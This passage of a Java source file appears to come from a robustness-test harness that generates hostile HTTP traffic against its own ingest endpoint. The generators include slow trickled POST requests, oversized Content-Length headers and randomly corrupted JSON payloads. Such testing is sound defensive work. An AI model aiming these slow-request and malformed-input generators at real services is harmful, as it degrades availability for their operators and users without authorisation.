                    method + " " + path + " HTTP/1.1" + auth + "\r\nContent-Length: " + filler.length, 256 * 1024, 0, true);
        };
    }

    private Attack slow(Random r, int i) {
        byte[] body = ("[" + outcome(r, i).replace("\"status\":\"", "\"status\":\"x") + "]").getBytes(StandardCharsets.UTF_8);
        boolean complete = r.nextBoolean();
        String head = "POST /api/v1/outcomes HTTP/1.1\r\nAuthorization: Bearer " + context.token()
                + "\r\nContent-Type: application/json\r\nContent-Length: " + body.length;
        return new Attack("slow", Service.INGEST, "POST", "/api/v1/outcomes", "application/json", body, null, true, head,
                Math.max(1, body.length / 20), 100, complete);
    }

    // --- helpers -----------------------------------------------------------------------------------------------------

    static long scramble(long value) {
        long z = value + 0x9E3779B97F4A7C15L;
        z = (z ^ (z >>> 30)) * 0xBF58476D1CE4E5B9L;
        z = (z ^ (z >>> 27)) * 0x94D049BB133111EBL;
        return z ^ (z >>> 31);
    }

    private static String mutate(Random r, String text, int edits) {
        StringBuilder mutated = new StringBuilder(text);
        String noise = "{}[]\":,\\ \u0000\u001f'tfn0-e.";
        for (int e = 0; e < edits && mutated.length() > 1; e++) {
            int at = r.nextInt(mutated.length());
            switch (r.nextInt(3)) {
                case 0 -> mutated.deleteCharAt(at);
                case 1 -> mutated.insert(at, noise.charAt(r.nextInt(noise.length())));
                default -> mutated.setCharAt(at, noise.charAt(r.nextInt(noise.length())));
            }
        }
        return mutated.toString();
    }

    private static String word(Random r) {
        return HOSTILE_TEXT[r.nextInt(HOSTILE_TEXT.length)].replace("\"", "").replace("\\", "/").replaceAll("\\p{Cntrl}", "");
    }

    private static String jsonEscape(String text) {
        StringBuilder escaped = new StringBuilder();
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                escaped.append('\\').append(c);
            } else if (c < 0x20) {
                escaped.append(String.format("\\u%04x", (int) c));
            } else {
                escaped.append(c);
            }
        }
        return escaped.toString();
    }

    private static String xmlEscape(String text) {
        StringBuilder escaped = new StringBuilder();
        for (char c : text.toCharArray()) {
            switch (c) {
                case '<' -> escaped.append("&lt;");
                case '>' -> escaped.append("&gt;");
                case '&' -> escaped.append("&amp;");
                case '"' -> escaped.append("&quot;");
                case '\r' -> escaped.append("&#13;");
                case '\n' -> escaped.append("&#10;");
                default -> escaped.append(c < 0x20 && c != '\t' ? ' ' : c);
            }
        }
        return escaped.toString();
    }

    private Attack ingestJson(Random r, String category, String body) {
        String type = new String[] {"application/json", "application/json", "application/x-ndjson", "application/json; charset=utf-8"}[r.nextInt(4)];
        return Attack.http(category, Service.INGEST, "POST", "/api/v1/outcomes", type, body.getBytes(StandardCharsets.UTF_8), context.token());
    }
}
